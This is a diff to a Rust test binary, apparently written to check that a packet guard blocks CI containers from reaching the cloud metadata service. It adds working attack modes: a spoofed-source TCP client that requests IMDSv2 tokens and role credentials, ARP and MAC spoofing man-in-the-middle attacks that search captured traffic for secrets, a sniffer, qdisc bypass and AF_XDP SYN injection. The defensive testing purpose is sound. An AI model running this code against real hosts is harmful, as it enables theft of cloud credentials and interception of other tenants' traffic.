@@ -2,17 +2,23 @@
 //! what a CI job with Docker's default capabilities (CAP_NET_RAW, but not
 //! CAP_NET_ADMIN) can do to reach the instance metadata service without
 //! ever calling connect() on a TCP socket, the one call the connect hooks
-//! see. The packet guard must drop what it sends; each mode reports, as
-//! one JSON line on stdout, how far it got, and exits 0 whatever happened
-//! (a failed attack is the result the tests assert on). Only a broken
-//! setup (a bad argument, no such interface) exits non-zero.
+//! see, or to read another job's credentials off the wire. The packet
+//! guard must drop what it sends; each mode reports, as one JSON line on
+//! stdout, how far it got, and exits 0 whatever happened (a failed attack,
+//! a socket the kernel refused included, is the result the tests assert
+//! on). Only a broken setup (a bad argument, no such interface) exits
+//! non-zero.
 //!
 //! ```text
 //! mp-attack packet-tcp --iface IFACE --spoof IP --dst IP:PORT
 //!                      [--timeout-ms N] [--ttl-seconds N]
+//!                      [--qdisc-bypass BOOL] [--next-hop-mac MAC]
 //!     a user-space TCP client on an AF_PACKET socket, from a spoofed
 //!     address of the container's subnet: the IMDSv2 sequence (token,
-//!     role, credentials), each request on a connection of its own
+//!     role, credentials), each request on a connection of its own. The
+//!     frames go to the MAC of IFACE's default gateway (asked for by ARP)
+//!     or to --next-hop-mac; --qdisc-bypass true sets PACKET_QDISC_BYPASS
+//!     first, and sends nothing if that is refused
 //! mp-attack hdrincl --src IP --dst IP:PORT [--count N]
 //!     N hand-built IPv4+TCP SYNs through a raw IPPROTO_RAW socket
 //! mp-attack udp --dst IP:PORT [--count N]
@@ -20,10 +26,29 @@
 //! mp-attack tcp-connect --dst IP:PORT [--timeout-ms N]
 //!     an ordinary connect() and GET of the instance id (for an address
 //!     a CAP_NET_ADMIN container DNATs onto IMDS in its own namespace)
+//! mp-attack arp-mitm --iface IFACE --victim IP --seconds N [--mode arp|mac]
+//!     a man in the middle on a bridge, for N seconds. arp: forged ARP
+//!     (the victim's address, our MAC) to the gateway every 100 ms, and
+//!     what then comes to us for the victim relayed to it; mac: frames
+//!     from the victim's MAC every 20 ms, so that the bridge sends us the
+//!     victim's frames (not relayed). Either way the TCP payloads are
+//!     searched for credentials and IMDSv2 token answers
+//! mp-attack sniff --iface IFACE --seconds N
+//!     every frame on IFACE (docker0, lo, a bridge: what a --network host
+//!     job sees), for N seconds, searched the same way
+//! mp-attack xdp --iface IFACE --dst-mac MAC --src IP --dst IP:PORT --count N
+//!     N hand-built Ethernet+IPv4+TCP SYNs through an AF_XDP socket in copy
+//!     mode, which transmits past the qdisc
 //! ```
+
+#[path = "attack/l2.rs"]
+mod l2;
+#[path = "attack/xdp.rs"]
+mod xdp;
 
 use std::{
     collections::HashMap,
+    fmt,
     io::{Read as _, Write as _},
     net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream, UdpSocket},
     os::fd::{AsRawFd as _, OwnedFd},
@@ -39,9 +64,13 @@ use nix::sys::{
 use serde_json::json;
 
 const USAGE: &str = "usage: mp-attack packet-tcp --iface IFACE --spoof IP --dst IP:PORT [--timeout-ms N] [--ttl-seconds N]
+                            [--qdisc-bypass BOOL] [--next-hop-mac MAC]
        mp-attack hdrincl --src IP --dst IP:PORT [--count N]
        mp-attack udp --dst IP:PORT [--count N]
-       mp-attack tcp-connect --dst IP:PORT [--timeout-ms N]";
+       mp-attack tcp-connect --dst IP:PORT [--timeout-ms N]
+       mp-attack arp-mitm --iface IFACE --victim IP --seconds N [--mode arp|mac]
+       mp-attack sniff --iface IFACE --seconds N
+       mp-attack xdp --iface IFACE --dst-mac MAC --src IP --dst IP:PORT --count N";
 
 fn main() {
     let args: Vec<String> = std::env::args().skip(1).collect();
@@ -54,10 +83,14 @@ fn main() {
             let iface: String = flags.required("iface");
             let spoof = flags.required("spoof");
             let dst = flags.required("dst");
-            let timeout = Duration::from_millis(flags.optional("timeout-ms").unwrap_or(3000));
-            let ttl_seconds = flags.optional("ttl-seconds").unwrap_or(21600u32);
+            let options = PacketOptions {
+                timeout: Duration::from_millis(flags.optional("timeout-ms").unwrap_or(3000)),
+                ttl_seconds: flags.optional("ttl-seconds").unwrap_or(21600),
+                qdisc_bypass: flags.optional("qdisc-bypass").unwrap_or(false),
+                next_hop_mac: flags.optional::<Mac>("next-hop-mac").map(|m| m.0),
+            };
             flags.finish();
-            packet_tcp(&iface, spoof, dst, timeout, ttl_seconds)
+            packet_tcp(&iface, spoof, dst, &options)
         }
         "hdrincl" => {
             let src = flags.required("src");
@@ -77,6 +110,29 @@ fn main() {
             let timeout = Duration::from_millis(flags.optional("timeout-ms").unwrap_or(1500));
             flags.finish();
             Ok(tcp_connect(dst, timeout))
+        }
+        "arp-mitm" => {
+            let iface: String = flags.required("iface");
+            let victim = flags.required("victim");
+            let seconds = Duration::from_secs(flags.required("seconds"));
+            let method = flags.optional("mode").unwrap_or(l2::Method::Arp);
+            flags.finish();
+            l2::arp_mitm(&iface, victim, seconds, method)
+        }
+        "sniff" => {
+            let iface: String = flags.required("iface");
+            let seconds = Duration::from_secs(flags.required("seconds"));
+            flags.finish();
+            l2::sniff(&iface, seconds)
+        }
+        "xdp" => {
+            let iface: String = flags.required("iface");
+            let dst_mac = flags.required::<Mac>("dst-mac").0;
+            let src = flags.required("src");
+            let dst = flags.required("dst");
+            let count = flags.required("count");
+            flags.finish();
+            xdp::xdp(&iface, dst_mac, src, dst, count)
         }
         other => usage(&format!("unknown mode {other:?}")),
     };
@@ -137,6 +193,37 @@ impl Flags {
     }
 }
 
+/// An Ethernet address, written `aa:bb:cc:dd:ee:ff`.
+#[derive(Clone, Copy)]
+struct Mac([u8; 6]);
+
+impl FromStr for Mac {
+    type Err = ();
+
+    fn from_str(s: &str) -> Result<Self, ()> {
+        let mut mac = [0u8; 6];
+        let mut parts = s.split(':');
+        for byte in &mut mac {
+            let part = parts.next().ok_or(())?;
+            if part.is_empty() || part.len() > 2 {
+                return Err(());
+            }
+            *byte = u8::from_str_radix(part, 16).map_err(|_| ())?;
+        }
+        match parts.next() {
+            Some(_) => Err(()),
+            None => Ok(Self(mac)),
+        }
+    }
+}
+
+impl fmt::Display for Mac {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let [a, b, c, d, e, g] = self.0;
+        write!(f, "{a:02x}:{b:02x}:{c:02x}:{d:02x}:{e:02x}:{g:02x}")
+    }
+}
+
 // ---------------------------------------------------------------------------
 // packet-tcp: TCP in user space over AF_PACKET
 // ---------------------------------------------------------------------------
@@ -167,32 +254,86 @@ const DATA_RTO: Duration = Duration::from_millis(700);
 /// smaller, so the server never has to wait for it to open.
 const WINDOW: u16 = 65535;
 
+/// `packet-tcp`'s options beyond the addresses.
+struct PacketOptions {
+    timeout: Duration,
+    ttl_seconds: u32,
+    /// Set PACKET_QDISC_BYPASS before sending anything.
+    qdisc_bypass: bool,
+    /// Where the frames go; None asks the default gateway's MAC by ARP.
+    next_hop_mac: Option<[u8; 6]>,
+}
+
 /// What `packet-tcp` found out; it becomes the JSON report.
 #[derive(Default)]
 struct PacketReport {
+    /// The kernel refused the AF_PACKET socket (nothing was sent).
+    socket_error: Option<String>,
+    /// The kernel refused PACKET_QDISC_BYPASS (nothing was sent).
+    bypass_error: Option<String>,
+    frames_sent_to_dst: u64,
     connected: bool,
     put_status: Option<u16>,
     token: bool,
     role: Option<String>,
     credentials: bool,
+    reply_ttl: Option<u8>,
     error: Option<String>,
+}
+
+impl PacketReport {
+    fn json(&self) -> serde_json::Value {
+        json!({
+            "mode": "packet-tcp",
+            "socket_error": self.socket_error,
+            "bypass_error": self.bypass_error,
+            "frames_sent_to_dst": self.frames_sent_to_dst,
+            "connected": self.connected,
+            "put_status": self.put_status,
+            "token": self.token,
+            "role": self.role,
+            "credentials": self.credentials,
+            "reply_ttl": self.reply_ttl,
+            "error": self.error,
+        })
+    }
 }
 
 fn packet_tcp(
     iface: &str,
     spoof: Ipv4Addr,
     dst: SocketAddrV4,
-    timeout: Duration,
-    ttl_seconds: u32,
+    options: &PacketOptions,
 ) -> anyhow::Result<serde_json::Value> {
-    let deadline = Instant::now() + timeout;
-    let mut link = Link::open(iface, spoof, *dst.ip(), deadline)?;
-    let gateway = default_gateway(iface)?;
+    let deadline = Instant::now() + options.timeout;
     let mut report = PacketReport::default();
-    match link.resolve(gateway) {
-        Ok(Some(gateway_mac)) => imds_v2(&mut link, gateway_mac, dst, ttl_seconds, &mut report),
-        Ok(None) => report.error = Some(format!("gateway {gateway} did not answer ARP")),
-        Err(e) => report.error = Some(format!("resolving gateway {gateway}: {e}")),
+    let mut link = match Link::open(iface, spoof, *dst.ip(), deadline)? {
+        Ok(link) => link,
+        Err(e) => {
+            report.socket_error = Some(e);
+            return Ok(report.json());
+        }
+    };
+    if options.qdisc_bypass {
+        if let Err(e) = link.bypass_qdisc() {
+            report.bypass_error = Some(e.to_string());
+            return Ok(report.json());
+        }
+    }
+    let next_hop = match options.next_hop_mac {
+        Some(mac) => Ok(mac),
+        None => {
+            let gateway = default_gateway(iface)?;
+            match link.resolve(gateway) {
+                Ok(Some(mac)) => Ok(mac),
+                Ok(None) => Err(format!("gateway {gateway} did not answer ARP")),
+                Err(e) => Err(format!("resolving gateway {gateway}: {e}")),
+            }
+        }
+    };
+    match next_hop {
+        Ok(mac) => imds_v2(&mut link, mac, dst, options.ttl_seconds, &mut report),
+        Err(e) => report.error = Some(e),
     }
     if let Some(e) = link.send_error {
         let note = format!("a send() failed: {e}");
@@ -201,24 +342,16 @@ fn packet_tcp(
             None => note,
         });
     }
-    Ok(json!({
-        "mode": "packet-tcp",
-        "frames_sent_to_dst": link.frames_to_dst,
-        "connected": report.connected,
-        "put_status": report.put_status,
-        "token": report.token,
-        "role": report.role,
-        "credentials": report.credentials,
-        "reply_ttl": link.reply_ttl,
-        "error": report.error,
-    }))
+    report.frames_sent_to_dst = link.frames_to_dst;
+    report.reply_ttl = link.reply_ttl;
+    Ok(report.json())
 }
 
 /// The attacker's IMDSv2 sequence: a token, the role's name, its
 /// credentials; each step only if the one before it answered.
 fn imds_v2(
     link: &mut Link,
-    gateway_mac: [u8; 6],
+    next_hop: [u8; 6],
     dst: SocketAddrV4,
     ttl_seconds: u32,
     report: &mut PacketReport,
@@ -228,7 +361,7 @@ fn imds_v2(
             "{method} {path} HTTP/1.1\r\nHost: {}\r\n{header}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
             dst.ip()
         );
-        let exchange = tcp_exchange(link, gateway_mac, dst, request.as_bytes());
+        let exchange = tcp_exchange(link, next_hop, dst, request.as_bytes());
         report.connected |= exchange.connected;
         let response = parse_response(&exchange.response);
         if let Some(error) = exchange.error {
@@ -354,42 +487,78 @@ struct Link {
     deadline: Instant,
 }
 
+/// An AF_PACKET socket for every protocol, bound to interface `ifindex`.
+/// The error is the kernel's refusal, which an attack reports: the
+/// errno alone for socket(), "bind: " and the errno for bind().
+fn packet_socket(ifindex: u32) -> Result<OwnedFd, String> {
+    let fd = socket::socket(
+        AddressFamily::Packet,
+        SockType::Raw,
+        SockFlag::SOCK_CLOEXEC,
+        SockProtocol::EthAll,
+    )
+    .map_err(|e| e.to_string())?;
+    // SAFETY: sockaddr_ll is plain old data, for which all zeroes is a
+    // valid value.
+    let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
+    addr.sll_family = libc::AF_PACKET as u16;
+    addr.sll_protocol = (libc::ETH_P_ALL as u16).to_be();
+    addr.sll_ifindex = ifindex as i32;
+    // SAFETY: `addr` is a valid sockaddr_ll that outlives the call, and
+    // the length passed is its size.
+    let bound = unsafe {
+        libc::bind(
+            fd.as_raw_fd(),
+            (&raw const addr).cast(),
+            std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
+        )
+    };
+    if bound != 0 {
+        return Err(format!("bind: {}", nix::Error::last()));
+    }
+    Ok(fd)
+}
+
+/// The next frame read from the packet socket `fd` into `buf`: its length
+/// and where it came from, or None once `until` has passed.
+fn recv_frame(
+    fd: &OwnedFd,
+    buf: &mut [u8],
+    until: Instant,
+) -> nix::Result<Option<(usize, LinkAddr)>> {
+    loop {
+        let now = Instant::now();
+        if now >= until {
+            return Ok(None);
+        }
+        // SO_RCVTIMEO of zero would mean "forever": wait at least 1 ms.
+        let wait = (until - now).max(Duration::from_millis(1));
+        socket::setsockopt(
+            fd,
+            sockopt::ReceiveTimeout,
+            &TimeVal::new(wait.as_secs() as _, wait.subsec_micros() as _),
+        )?;
+        match socket::recvfrom::<LinkAddr>(fd.as_raw_fd(), buf) {
+            Ok((n, Some(from))) => return Ok(Some((n, from))),
+            Ok((_, None)) | Err(nix::Error::EAGAIN | nix::Error::EINTR) => continue,
+            Err(e) => return Err(e),
+        }
+    }
+}
+
 impl Link {
+    /// The outer error is a broken setup (no such interface); the inner
+    /// one is the kernel refusing the socket, as [`packet_socket`] words it.
     fn open(
         iface: &str,
         spoof: Ipv4Addr,
         target: Ipv4Addr,
         deadline: Instant,
-    ) -> anyhow::Result<Self> {
+    ) -> anyhow::Result<Result<Self, String>> {
         let ifindex = nix::net::if_::if_nametoindex(iface)
             .with_context(|| format!("no interface {iface}"))?;
         let mac = interface_mac(iface)?;
-        let fd = socket::socket(
-            AddressFamily::Packet,
-            SockType::Raw,
-            SockFlag::SOCK_CLOEXEC,
-            SockProtocol::EthAll,
-        )
-        .context("socket(AF_PACKET, SOCK_RAW, ETH_P_ALL) (needs CAP_NET_RAW)")?;
-        // SAFETY: sockaddr_ll is plain old data, for which all zeroes is a
-        // valid value.
-        let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
-        addr.sll_family = libc::AF_PACKET as u16;
-        addr.sll_protocol = (libc::ETH_P_ALL as u16).to_be();
-        addr.sll_ifindex = ifindex as i32;
-        // SAFETY: `addr` is a valid sockaddr_ll that outlives the call, and
-        // the length passed is its size.
-        let bound = unsafe {
-            libc::bind(
-                fd.as_raw_fd(),
-                (&raw const addr).cast(),
-                std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
-            )
-        };
-        if bound != 0 {
-            return Err(std::io::Error::last_os_error()).context(format!("binding to {iface}"));
-        }
-        Ok(Self {
+        Ok(packet_socket(ifindex).map(|fd| Self {
             fd,
             ifindex: ifindex as usize,
             mac,
@@ -399,14 +568,47 @@ impl Link {
             reply_ttl: None,
             send_error: None,
             deadline,
-        })
+        }))
+    }
+
+    /// Sends this socket's frames straight to the driver, past the qdisc
+    /// and tc egress (PACKET_QDISC_BYPASS).
+    fn bypass_qdisc(&self) -> nix::Result<()> {
+        let on: libc::c_int = 1;
+        // SAFETY: `on` is a c_int that outlives the call, and the length
+        // passed is its size.
+        let set = unsafe {
+            libc::setsockopt(
+                self.fd.as_raw_fd(),
+                libc::SOL_PACKET,
+                libc::PACKET_QDISC_BYPASS,
+                (&raw const on).cast(),
+                std::mem::size_of::<libc::c_int>() as libc::socklen_t,
+            )
+        };
+        if set == 0 {
+            Ok(())
+        } else {
+            Err(nix::Error::last())
+        }
     }
 
     /// Sends one frame; whether it went is in `send_error`.
     fn send_frame(&mut self, dst_mac: [u8; 6], ethertype: u16, body: &[u8]) -> bool {
+        self.send_frame_from(self.mac, dst_mac, ethertype, body)
+    }
+
+    /// Sends one frame with the Ethernet source `src_mac`, ours or not.
+    fn send_frame_from(
+        &mut self,
+        src_mac: [u8; 6],
+        dst_mac: [u8; 6],
+        ethertype: u16,
+        body: &[u8],
+    ) -> bool {
         let mut frame = Vec::with_capacity(MIN_FRAME.max(14 + body.len()));
         frame.extend_from_slice(&dst_mac);
-        frame.extend_from_slice(&self.mac);
+        frame.extend_from_slice(&src_mac);
         frame.extend_from_slice(&ethertype.to_be_bytes());
         frame.extend_from_slice(body);
         frame.resize(frame.len().max(MIN_FRAME), 0);
@@ -428,13 +630,7 @@ impl Link {
     }
 
     fn send_arp(&mut self, op: u16, dst_mac: [u8; 6], target_mac: [u8; 6], target_ip: Ipv4Addr) {
-        let mut arp = Vec::with_capacity(28);
-        arp.extend_from_slice(&[0, 1, 0x08, 0x00, 6, 4]); // Ethernet, IPv4
-        arp.extend_from_slice(&op.to_be_bytes());
-        arp.extend_from_slice(&self.mac);
-        arp.extend_from_slice(&self.spoof.octets());
-        arp.extend_from_slice(&target_mac);
-        arp.extend_from_slice(&target_ip.octets());
+        let arp = arp_packet(op, (self.mac, self.spoof), (target_mac, target_ip));
         // A lost request is sent again, and a lost reply asked for again.
         self.send_frame(dst_mac, ETHERTYPE_ARP, &arp);
     }
@@ -464,35 +660,18 @@ impl Link {
     fn recv(&mut self, until: Instant) -> nix::Result<Option<Event>> {
         let until = until.min(self.deadline);
         let mut buf = vec![0u8; 65536];
-        loop {
-            let now = Instant::now();
-            if now >= until {
-                return Ok(None);
-            }
-            // SO_RCVTIMEO of zero would mean "forever": wait at least 1 ms.
-            let wait = (until - now).max(Duration::from_millis(1));
-            socket::setsockopt(
-                &self.fd,
-                sockopt::ReceiveTimeout,
-                &TimeVal::new(wait.as_secs() as _, wait.subsec_micros() as _),
-            )?;
-            let (n, from) = match socket::recvfrom::<LinkAddr>(self.fd.as_raw_fd(), &mut buf) {
-                Ok(got) => got,
-                Err(nix::Error::EAGAIN | nix::Error::EINTR) => continue,
-                Err(e) => return Err(e),
-            };
+        while let Some((n, from)) = recv_frame(&self.fd, &mut buf, until)? {
             // An ETH_P_ALL socket also sees the frames this host sends,
             // our own included; frames from other interfaces can be queued
             // before bind() took effect.
-            if from
-                .is_none_or(|f| f.pkttype() == libc::PACKET_OUTGOING || f.ifindex() != self.ifindex)
-            {
+            if from.pkttype() == libc::PACKET_OUTGOING || from.ifindex() != self.ifindex {
                 continue;
             }
             if let Some(event) = self.handle(&buf[..n]) {
                 return Ok(Some(event));
             }
         }
+        Ok(None)
     }
 
     /// Answers ARP for the spoofed address, records the target's TTL, and
@@ -576,6 +755,19 @@ impl Link {
     }
 }
 
+/// An ARP packet (Ethernet, IPv4) from `sender` to `target`, each a MAC
+/// and an address.
+fn arp_packet(op: u16, sender: ([u8; 6], Ipv4Addr), target: ([u8; 6], Ipv4Addr)) -> Vec<u8> {
+    let mut arp = Vec::with_capacity(28);
+    arp.extend_from_slice(&[0, 1, 0x08, 0x00, 6, 4]); // Ethernet, IPv4
+    arp.extend_from_slice(&op.to_be_bytes());
+    arp.extend_from_slice(&sender.0);
+    arp.extend_from_slice(&sender.1.octets());
+    arp.extend_from_slice(&target.0);
+    arp.extend_from_slice(&target.1.octets());
+    arp
+}
+
 /// The fields of an IPv4 packet we look at.
 struct Ipv4<'a> {
     src: Ipv4Addr,
@@ -620,14 +812,14 @@ struct Exchange {
 /// a complete response, or the deadline.
 fn tcp_exchange(
     link: &mut Link,
-    gateway_mac: [u8; 6],
+    next_hop: [u8; 6],
     remote: SocketAddrV4,
     request: &[u8],
 ) -> Exchange {
     let mut tcp = Tcp {
         local: SocketAddrV4::new(link.spoof, fastrand::u16(32768..61000)),
         remote,
-        gateway_mac,
+        next_hop,
         snd_nxt: fastrand::u32(..),
         rcv_nxt: 0,
     };
@@ -646,7 +838,7 @@ fn tcp_exchange(
 struct Tcp {
     local: SocketAddrV4,
     remote: SocketAddrV4,
-    gateway_mac: [u8; 6],
+    next_hop: [u8; 6],
     /// The next sequence number we send.
     snd_nxt: u32,
     /// The next sequence number we expect (what we acknowledge).
@@ -664,7 +856,7 @@ impl Tcp {
             options,
             payload,
         });
-        link.send_ipv4(self.gateway_mac, &packet);
+        link.send_ipv4(self.next_hop, &packet);
     }
 
     fn run(
@@ -807,15 +999,8 @@ fn ipv4_tcp(p: &TcpPacket) -> Vec<u8> {
     tcp.extend_from_slice(&[0, 0, 0, 0]); // checksum, urgent pointer
     tcp.extend_from_slice(p.options);
     tcp.extend_from_slice(p.payload);
-    // The TCP checksum covers a pseudo-header of the IP addresses,
-    // protocol and TCP length.
-    let mut pseudo = Vec::with_capacity(12 + tcp_len);
-    pseudo.extend_from_slice(&p.src.ip().octets());
-    pseudo.extend_from_slice(&p.dst.ip().octets());
-    pseudo.extend_from_slice(&[0, libc::IPPROTO_TCP as u8]);
-    pseudo.extend_from_slice(&(tcp_len as u16).to_be_bytes());
-    pseudo.extend_from_slice(&tcp);
-    tcp[16..18].copy_from_slice(&checksum(&pseudo).to_be_bytes());
+    let sum = transport_checksum(*p.src.ip(), *p.dst.ip(), libc::IPPROTO_TCP as u8, &tcp);
+    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
 
     let mut ip = Vec::with_capacity(20 + tcp_len);
     ip.extend_from_slice(&[0x45, 0]); // version 4, 20-byte header; TOS
@@ -829,6 +1014,18 @@ fn ipv4_tcp(p: &TcpPacket) -> Vec<u8> {
     ip[10..12].copy_from_slice(&sum.to_be_bytes());
     ip.extend_from_slice(&tcp);
     ip
+}
+
+/// The TCP or UDP checksum of `segment`, whose checksum field is zero:
+/// it covers a pseudo-header of the IP addresses, protocol and length.
+fn transport_checksum(src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, segment: &[u8]) -> u16 {
+    let mut pseudo = Vec::with_capacity(12 + segment.len());
+    pseudo.extend_from_slice(&src.octets());
+    pseudo.extend_from_slice(&dst.octets());
+    pseudo.extend_from_slice(&[0, protocol]);
+    pseudo.extend_from_slice(&(segment.len() as u16).to_be_bytes());
+    pseudo.extend_from_slice(segment);
+    checksum(&pseudo)
 }
 
 /// The Internet checksum (RFC 1071).
